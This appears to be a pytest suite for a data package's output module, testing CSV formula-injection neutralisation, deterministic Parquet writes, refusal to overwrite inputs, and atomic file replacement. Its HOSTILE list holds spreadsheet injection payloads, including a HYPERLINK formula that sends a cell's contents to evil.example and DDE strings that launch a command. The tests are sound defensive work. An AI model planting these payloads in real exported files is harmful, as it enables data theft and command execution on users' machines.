"""trends.output: no output over an input, no half-written file, no formula cell."""

from __future__ import annotations

import csv
import errno
import io
import os

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trends import output
from trends.errors import OutputError
from trends.output import neutralise_formulas, write_table, write_text
from trends.testing import formula_cells

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_text_cells_are_prefixed_and_numbers_are_not():
    table = pd.DataFrame(
        {
            "region": pd.array(HOSTILE, dtype="string"),
            "note": pd.Series(HOSTILE, dtype=object),
            "apc": -np.arange(6, dtype=float) - 0.5,
            "count": -np.arange(6),
        }
    )
    out = neutralise_formulas(table)
    assert out["region"].tolist() == ["'" + h for h in HOSTILE]
    assert out["note"].tolist() == ["'" + h for h in HOSTILE]
    assert out["region"].dtype == table["region"].dtype
    assert out["apc"].equals(table["apc"]) and out["count"].equals(table["count"])
    assert table["region"].iloc[0] == HOSTILE[0]  # the caller's table is not changed


def test_write_table_csv_has_no_formula_cell(tmp_path):
    table = pd.DataFrame({"region": HOSTILE, "rate": np.linspace(-1, 1, 6)})
    table["cat"] = pd.Categorical(HOSTILE)
    path = write_table(table, tmp_path / "t.csv")
    text = path.read_text(encoding="utf-8")
    assert formula_cells(text) == []
    assert "-1.0" in text  # a negative number stays a number
    back = pd.read_csv(path)
    assert len(back) == 6 and back["region"].str.startswith("'").all()
    assert back["region"].iloc[5] == "'\n=1+1"  # a lone carriage return would split the row


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.text(alphabet=st.sampled_from(list("=+-@\t\r ;,\"'aZ1(|!")), min_size=1, max_size=12),
        min_size=1,
        max_size=8,
    ),
    st.lists(st.floats(allow_nan=True, allow_infinity=False, width=32), min_size=1, max_size=8),
)
def test_property_no_formula_cell(names, numbers):
    n = min(len(names), len(numbers))
    table = pd.DataFrame({"region": names[:n], "value": numbers[:n]})
    text = neutralise_formulas(table, one_newline=True).to_csv(index=False, lineterminator="\n")
    assert formula_cells(text) == []
    assert len(list(csv.reader(io.StringIO(text)))) == n + 1


def test_parquet_by_extension_and_same_bytes(tmp_path):
    table = pd.DataFrame({"region": ["a", "=b"], "x": [1.0, -2.0]})
    table.attrs["fits"] = {"not": object()}  # attrs are not stored
    first = write_table(table, tmp_path / "a.parquet").read_bytes()
    second = write_table(table, tmp_path / "b.parquet").read_bytes()
    assert first == second
    back = pd.read_parquet(tmp_path / "a.parquet")
    assert back["region"].tolist() == ["a", "=b"]  # Parquet holds data, not formulas


def test_unknown_extension_is_refused(tmp_path):
    with pytest.raises(OutputError, match=r"t\.txt.*'\.csv', '\.parquet'"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "t.txt")


@pytest.mark.parametrize("how", ["same", "symlink", "hardlink", "dotted"])
def test_an_output_that_is_an_input_is_refused(tmp_path, how):
    source = tmp_path / "in.csv"
    source.write_text("precious\n", encoding="utf-8")
    target = {
        "same": source,
        "symlink": tmp_path / "link.csv",
        "hardlink": tmp_path / "hard.csv",
        "dotted": tmp_path / "sub" / ".." / "in.csv",
    }[how]
    (tmp_path / "sub").mkdir()
    if how == "symlink":
        target.symlink_to(source)
    elif how == "hardlink":
        os.link(source, target)
    with pytest.raises(OutputError, match="refusing to write .*it is the input file"):
        write_text(target, "oops", inputs=[source])
    assert source.read_text(encoding="utf-8") == "precious\n"


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch):
    path = tmp_path / "report.html"
    path.write_text("old", encoding="utf-8")

    def full(_fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(output.os, "fsync", full)
    with pytest.raises(OutputError, match=r"cannot write .*report\.html: No space left on device"):
        write_text(path, "new " * 1000)
    assert path.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.html"]


def test_an_error_inside_the_writer_leaves_nothing(tmp_path):
    path = tmp_path / "new.csv"
    with pytest.raises(ZeroDivisionError), output.replacing(path) as handle:
        handle.write("half a line")
        raise ZeroDivisionError
    assert list(tmp_path.iterdir()) == []


def test_replacing_keeps_the_old_files_permissions(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("x", encoding="utf-8")
    path.chmod(0o640)
    write_text(path, "y")
    assert (path.stat().st_mode & 0o777) == 0o640
    fresh = write_text(tmp_path / "fresh.csv", "z")
    assert fresh.stat().st_mode & 0o777 != 0o600  # not mkstemp's private mode


def test_staging_moves_finished_files_only(tmp_path):
    folder = tmp_path / "figs"
    with output.staging(folder) as work:
        (work / "a.svg").write_text("<svg/>", encoding="utf-8")
    assert sorted(p.name for p in folder.iterdir()) == ["a.svg"]
    with pytest.raises(RuntimeError), output.staging(folder) as work:
        (work / "b.svg").write_text("half", encoding="utf-8")
        raise RuntimeError
    assert sorted(p.name for p in folder.iterdir()) == ["a.svg"]
